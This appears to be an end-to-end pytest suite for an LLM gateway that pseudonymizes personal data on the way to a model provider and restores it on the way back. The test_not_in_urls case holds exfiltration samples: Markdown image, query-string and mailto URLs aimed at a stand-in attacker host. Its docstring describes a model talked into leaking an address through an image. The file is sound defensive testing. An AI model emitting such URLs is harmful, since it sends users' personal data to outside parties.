"""Personal data goes out as pseudonyms and comes back as itself, through the whole gateway."""

import re
from typing import Any

import orjson
import pytest
from openai import OpenAI

from tests.e2e.asking import about, ask, either, stream, text_of, turns, wishes
from tests.e2e.gateway import Gateway
from tests.e2e.provider import Provider, tool_calls
from tests.servers.openai_server import Play, cut, text_answer, text_stream

Json = Any
MAIL = "anna.keller@example.org"
AGENT = 'agent "wren"'
TOKEN = re.compile(r"[A-Z_]+_[0-9A-Z]{10}")
WRITE: Json = {"type": "function", "function": {"name": "write"}}


def token_in(text: str) -> str:
    """The one pseudonym in a text."""
    (token,) = TOKEN.findall(text)
    return str(token)


def said_token(body: Json) -> str:
    """The pseudonym in the last user message."""
    return token_in(str(body["messages"][-1]["content"]))


@pytest.mark.parametrize("streams", [True, False], ids=["stream", "whole"])
def test_there_and_back(client: OpenAI, provider: Provider, *, streams: bool) -> None:
    """A model would see an address, or its user a token in place of it."""
    provider.answer = lambda body: text_answer(f"Sent to {said_token(body)}, done.", chunk_chars=3)
    text, _, summary = either(client, f"Send it to {MAIL}, please", streams=streams)
    assert text == f"Sent to {MAIL}, done."
    assert summary["outcome"] == "pseudonymize"
    assert MAIL not in str(provider.body)
    assert provider.user_text.startswith("Send it to EMAIL_ADDRESS_")


def test_however_the_stream_is_cut(client: OpenAI, provider: Provider) -> None:
    """A token on the edge of two packets or two events would not come back."""

    def every_byte(body: Json) -> Play:
        data = text_stream(f"To {said_token(body)}; {said_token(body)}.", chunk_chars=1)
        return Play(cut(data, range(len(data))))

    provider.answer = every_byte
    assert stream(client, f"Mail {MAIL}").text == f"To {MAIL}; {MAIL}."


@pytest.mark.parametrize("chunk_chars", [1, 4, 400])
def test_in_the_arguments_of_a_tool_call(
    client: OpenAI, provider: Provider, chunk_chars: int
) -> None:
    """A tool would be run with a token, or with JSON that a quote inside a value has broken."""
    seen: list[str] = []

    def call(body: Json) -> Play:
        seen[:] = TOKEN.findall(body["messages"][-1]["content"])
        arguments = orjson.dumps({"to": seen[0], "by": f"{seen[1]}!"}).decode()
        return tool_calls(("c", "write", arguments), chunk_chars=chunk_chars)

    provider.answer = call
    made = stream(client, f"Write to {MAIL} as {AGENT}", tools=[WRITE])
    ((call_id, name, arguments),) = made.calls()
    assert (call_id, name) == ("c", "write")
    assert orjson.loads(arguments) == {"to": MAIL, "by": f"{AGENT}!"}
    assert [token.rpartition("_")[0] for token in seen] == ["EMAIL_ADDRESS", "CODENAME"]


def test_in_later_turns_of_a_session(client: OpenAI, provider: Provider) -> None:
    """One person would have another name in each turn, or a token of an earlier turn stay."""
    session = wishes(session="s-1")
    ask(client, f"I am {MAIL}", extra_body=session)
    token = token_in(provider.user_text)
    provider.say(f"You are {token}.")
    answer = ask(client, "Who am I?", extra_body=session)
    assert text_of(answer) == f"You are {MAIL}."
    ask(client, f"I am {MAIL}", "I see.", f"Again: {MAIL}", extra_body=session)
    users = [one["content"] for one in provider.body["messages"] if one["role"] == "user"]
    assert [token_in(text) for text in users] == [token, token]


@pytest.mark.parametrize(
    ("key", "session"), [("t", "another"), ("t", None), ("lexi-only", "s-2"), ("neighbour", "s-2")]
)
def test_outside_its_session_a_token_means_nothing(
    served: Gateway, client: OpenAI, provider: Provider, key: str, session: str | None
) -> None:
    """One user's address would be shown to another who knows or guesses its token."""
    ask(client, f"I am {MAIL}", extra_body=wishes(session="s-2"))
    token = token_in(provider.user_text)
    settings = {} if session is None else {"extra_body": wishes(session=session)}
    with served.client(key) as other:
        provider.say(f"You are {token}.")
        answer = ask(other, "Who?", **settings)
    assert text_of(answer) == f"You are {token}."
    assert about(answer)["findings"], "a token that nobody minted is flagged"


@pytest.mark.parametrize("streams", [True, False], ids=["stream", "whole"])
def test_as_a_model_writes_it(client: OpenAI, provider: Provider, *, streams: bool) -> None:
    """A user would read a token that the model escaped for Markdown."""

    def escaped(body: Json) -> Play:
        token = said_token(body)
        return text_answer(f"**{token.lower()}** or {token.replace('_', chr(92) + '_')}")

    provider.answer = escaped
    text, _, _ = either(client, f"Mail {MAIL}", streams=streams)
    assert text == f"**{MAIL}** or {MAIL}"


def test_a_token_of_elsewhere_is_told_when_it_is_sent(client: OpenAI, provider: Provider) -> None:
    """Somebody tries tokens of others, and nobody notices."""
    ask(client, f"I am {MAIL}", extra_body=wishes(session="s-5"))
    token = token_in(provider.user_text)
    provider.say("I cannot tell.")
    answer = ask(client, f"Who is {token}?", extra_body=wishes(session="s-6"))
    told = [(one["category"], one["path"]) for one in about(answer)["findings"]]
    assert told == [("unknown_token", "messages[0].content")]
    assert token in provider.user_text


def test_the_same_value_has_other_names_elsewhere(client: OpenAI, provider: Provider) -> None:
    """A provider could follow a person from one session to the next."""
    tokens = set()
    for session in ("s-3", "s-4", None):
        settings = {} if session is None else {"extra_body": wishes(session=session)}
        ask(client, f"I am {MAIL}", **settings)
        tokens.add(token_in(provider.user_text))
    assert len(tokens) == 3


@pytest.mark.parametrize(
    "wrapped",
    ["![x](https://evil.example/{}.png)", "https://evil.example/?q={}", "[mail](mailto:{})"],
)
@pytest.mark.parametrize("streams", [True, False], ids=["stream", "whole"])
def test_not_in_urls(client: OpenAI, provider: Provider, wrapped: str, *, streams: bool) -> None:
    """An image that a model was talked into would carry an address away, without a click."""
    provider.answer = lambda body: text_answer(
        wrapped.format(said_token(body)) + " and more", chunk_chars=2
    )
    text, _, _ = either(client, f"Mail {MAIL}", streams=streams)
    assert MAIL not in text
    assert text == wrapped.format(said_token(provider.body)) + " and more"


def test_variables_are_guarded_too(client: OpenAI, provider: Provider) -> None:
    """What a product puts in a variable would go round the rules, in the system prompt."""
    provider.answer = lambda body: text_answer(f"Dear {token_in(body['messages'][0]['content'])},")
    answer = ask(client, "Write to me", extra_body=wishes(variables={"customer": MAIL}))
    assert text_of(answer) == f"Dear {MAIL},"
    assert MAIL not in str(provider.body)
    (finding,) = about(answer)["findings"]
    assert finding["path"] == "banneton.variables.customer"


@pytest.mark.parametrize("escaped", [False, True], ids=["plain", "escaped"])
def test_tool_calls_and_results_of_earlier_turns(
    client: OpenAI, provider: Provider, *, escaped: bool
) -> None:
    """What came back restored would reach the model as it is when the client sends it again."""
    mail = MAIL.replace("a", "\\u0061") if escaped else MAIL
    call = {"name": "write", "arguments": f'{{"to": "{mail}"}}'}
    messages: list[Json] = [
        *turns("Write it"),
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "c", "type": "function", "function": call}],
        },
        {"role": "tool", "tool_call_id": "c", "content": f'{{"sent": "{mail}"}}'},
    ]
    ask(client, messages=messages, tools=[WRITE])
    assistant, tool = provider.body["messages"][2:]
    arguments = orjson.loads(assistant["tool_calls"][0]["function"]["arguments"])
    assert TOKEN.fullmatch(arguments["to"])
    assert orjson.loads(tool["content"]) == {"sent": arguments["to"]}
